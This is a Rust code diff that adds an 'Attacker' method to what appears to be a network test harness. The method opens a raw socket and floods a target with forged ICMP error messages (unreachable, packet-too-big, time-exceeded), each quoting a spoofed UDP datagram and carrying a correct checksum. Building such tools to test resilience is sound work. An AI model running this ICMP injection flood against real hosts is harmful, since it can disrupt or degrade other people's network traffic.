@@ -15,6 +15,8 @@ use nix::sys::socket::{
     AddressFamily, MsgFlags, MultiHeaders, SockFlag, SockProtocol, SockType, recv, sendmmsg, socket,
 };
 
+use socket2::{Domain, Protocol, SockAddr, Socket, Type};
+
 use crate::child;
 
 /// No set-up command takes a tenth of this on an overloaded machine.
@@ -209,6 +211,79 @@ impl Attacker {
             flood
         })
     }
+}
+
+impl Attacker {
+    /// Sends `to` forged reports of the network (ICMP) on datagrams from `quoted[0]` to `quoted[1]`, one kind
+    /// after the other, for `span` at `rate` a second.
+    ///
+    /// # Panics
+    /// When it has no socket.
+    pub fn forge_reports(
+        &self,
+        to: Ipv4Addr,
+        quoted: [SocketAddrV4; 2],
+        span: Duration,
+        rate: u32,
+    ) -> Flood {
+        self.within(|| {
+            let opened = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4));
+            let socket = match opened {
+                Ok(socket) => socket,
+                Err(error) => panic!("no raw socket for the attacker: {error}"),
+            };
+            let to = SockAddr::from(SocketAddrV4::new(to, 0));
+            let began = Instant::now();
+            let mut flood = Flood::default();
+            for (number, kind) in REPORTS.iter().cycle().enumerate() {
+                if began.elapsed() >= span {
+                    break;
+                }
+                let sent = socket.send_to(&report(*kind, quoted), &to);
+                flood.sent_count += u64::from(sent.is_ok());
+                let due = Duration::from_secs_f64(number as f64 / f64::from(rate));
+                thread::sleep(due.saturating_sub(began.elapsed()));
+            }
+            flood.took = began.elapsed();
+            flood
+        })
+    }
+}
+
+/// Type, code and the last four bytes of an ICMP header: network, host, protocol and port unreachable,
+/// a packet too long for the next hop of 100 bytes, forbidden by a filter, time exceeded, a bad parameter.
+const REPORTS: [(u8, u8, u32); 8] = [
+    (3, 0, 0),
+    (3, 1, 0),
+    (3, 2, 0),
+    (3, 3, 0),
+    (3, 4, 100),
+    (3, 13, 0),
+    (11, 0, 0),
+    (12, 0, 0),
+];
+
+/// An ICMP message (RFC 792) on a datagram from `quoted[0]` to `quoted[1]`.
+fn report((kind, code, rest): (u8, u8, u32), quoted: [SocketAddrV4; 2]) -> Vec<u8> {
+    let mut bytes = vec![kind, code, 0, 0];
+    bytes.extend(rest.to_be_bytes());
+    // The header of an IPv4 packet of UDP that was sent, and the first eight bytes behind it.
+    bytes.extend([0x45, 0, 0, 128, 0, 0, 0x40, 0, 64, 17, 0, 0]);
+    bytes.extend(quoted[0].ip().octets());
+    bytes.extend(quoted[1].ip().octets());
+    bytes.extend(quoted[0].port().to_be_bytes());
+    bytes.extend(quoted[1].port().to_be_bytes());
+    bytes.extend([0, 108, 0, 0]);
+    let words = bytes.chunks_exact(2);
+    let mut sum: u32 = words
+        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])))
+        .sum();
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    let [_, _, high, low] = (!sum).to_be_bytes();
+    bytes[2..4].copy_from_slice(&[high, low]);
+    bytes
 }
 
 impl Drop for Attacker {
